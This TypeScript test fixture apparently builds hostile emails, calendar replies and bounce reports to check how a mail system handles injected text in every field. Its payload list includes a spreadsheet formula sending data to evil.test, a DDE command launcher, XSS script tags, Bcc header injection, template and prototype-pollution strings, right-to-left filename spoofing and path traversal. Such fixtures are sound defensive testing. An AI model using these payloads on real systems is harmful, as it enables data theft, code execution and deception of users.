/** Mails of strangers who have put the same hostile text into every field that a mail has. */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = [
  { name: 'a formula that fetches', text: '=IMPORTXML("https://evil.test/?"&A1,"//a")' },
  { name: 'a formula with a link', text: '=HYPERLINK("https://evil.test","your invoice")' },
  { name: 'a plus', text: "+1+cmd|'/c calc'!A0" },
  { name: 'a minus', text: '-2+3' },
  { name: 'an at sign', text: '@SUM(A1:A9)' },
  { name: 'a tab before a formula', text: '\t=1+1' },
  { name: 'a full-width formula', text: '＝1+1' },
  { name: 'an apostrophe before a formula', text: "'=1+1" },
  { name: 'an end of a CSV cell', text: 'x","=1+1",";=1+1;"' },
  { name: 'a template', text: '{{ firm.name }}{% for i in (1..1000000) %}{{ person.name }}{% endfor %}' },
  { name: 'an open template', text: '{% raw %}{{ constructor.constructor }}{% if' },
  { name: 'a page', text: '<script>alert(1)</script><img src=x onerror=alert(1)>' },
  { name: 'a header', text: 'Hi\r\nBcc: eve@evil.test\r\nX-Evil: 1\r\n\r\nbody' },
  { name: 'a header by bare line feed', text: 'Hi\nBcc: eve@evil.test' },
  { name: 'a header by bare carriage return', text: 'Hi\rBcc: eve@evil.test' },
  { name: 'a turned direction', text: 'invoice\u202efdp.exe\u2066\u200b\u00ad' },
  { name: 'a terminal’s escape', text: '\u001b]0;owned\u0007\u001b[31mred\u009b2J' },
  { name: 'a prototype', text: '__proto__' },
];

const LONG_ENOUGH = 40;

/** RFC 2047 words, whatever the text: what is in them reaches the rules undisturbed. */
function words(text: string): string {
  const pieces: string[] = [];
  const signs = Array.from(text);
  for (let at = 0; at < signs.length; at += LONG_ENOUGH) {
    const piece = Buffer.from(signs.slice(at, at + LONG_ENOUGH).join('')).toString('base64');
    pieces.push(`=?utf-8?B?${piece}?=`);
  }
  return pieces.join('\r\n ');
}

/** Where the syntax has no room for line ends and blanks. */
const token = (text: string): string => text.replace(/[\r\n\t ]+/g, '').replace(/[<>]/g, '');

export function questionFullOf({ text }: Payload, number: number, to: string): Buffer {
  return Buffer.from(
    [
      `From: ${words(text)} <stranger@people${number}.test>`,
      `To: ${words(text)} <${to}>, "${token(text).replace(/["\\]/g, '')}" <other@people.test>`,
      `Cc: ${words(text)} <cc${number}@people.test>`,
      `Reply-To: ${words(text)} <reply${number}@people.test>`,
      `Subject: ${words(text)}`,
      'Date: Fri, 20 Nov 2026 10:00:00 +0100',
      `Message-ID: <${token(text)}.${number}@people.test>`,
      `References: <${token(text)}.old${number}@people.test>`,
      `Content-Language: ${words(text)}`,
      `Organization: ${words(text)}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=m',
      '',
      '--m',
      `Content-Type: text/plain; charset=utf-8; name="${token(text).replace(/["\\]/g, '')}"`,
      '',
      text,
      '--m',
      'Content-Type: application/pdf',
      `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(text)}.pdf`,
      '',
      'x',
      '--m',
      `Content-Type: ${token(text).replace(/[";]/g, '')}/x`,
      `Content-Disposition: attachment; filename="${words(`../../${text}`)}"`,
      '',
      'x',
      '--m--',
      '',
    ].join('\r\n'),
    'utf8',
  );
}

/** An answer to an invitation, in whose fields the text stands. */
export function calendarFullOf({ text }: Payload, number: number, to: string): Buffer {
  const value = text.replace(/\r?\n|\r/g, '\\n');
  return Buffer.from(
    [
      `From: Jan <calendar@clients${number}.test>`,
      `To: ${to}`,
      `Subject: ${words(`Declined: ${text}`)}`,
      `Message-ID: <calendar@clients${number}.test>`,
      'MIME-Version: 1.0',
      'Content-Type: text/calendar; method=REPLY; charset=utf-8',
      '',
      'BEGIN:VCALENDAR',
      'METHOD:REPLY',
      'BEGIN:VEVENT',
      `UID:${value}`,
      `SUMMARY:${value}`,
      `COMMENT:${value}`,
      `ATTENDEE;PARTSTAT=DECLINED;CN="${value.replace(/"/g, '')}":mailto:${token(text)}@people.test`,
      'END:VEVENT',
      'END:VCALENDAR',
      '',
    ].join('\r\n'),
    'utf8',
  );
}

/** A report of failed delivery that nobody asked for. */
export function bounceFullOf({ text }: Payload, number: number, to: string): Buffer {
  const line = text.replace(/[\r\n]+/g, ' ');
  return Buffer.from(
    [
      `From: Mail Delivery System <MAILER-DAEMON@mx${number}.test>`,
      `To: ${to}`,
      'Subject: Undelivered Mail Returned to Sender',
      `Message-ID: <bounce${number}@people.test>`,
      'Auto-Submitted: auto-replied',
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary=m',
      '',
      '--m',
      'Content-Type: text/plain',
      '',
      line,
      '--m',
      'Content-Type: message/delivery-status',
      '',
      `Reporting-MTA: dns; ${line}`,
      '',
      `Final-Recipient: rfc822; ${line}`,
      'Action: failed',
      `Status: ${line}`,
      `Diagnostic-Code: smtp; 550 ${line}`,
      '',
      '--m',
      'Content-Type: message/rfc822',
      '',
      `Message-ID: <${token(text)}@x.test>`,
      `Subject: ${words(text)}`,
      '',
      '--m--',
      '',
    ].join('\r\n'),
    'utf8',
  );
}
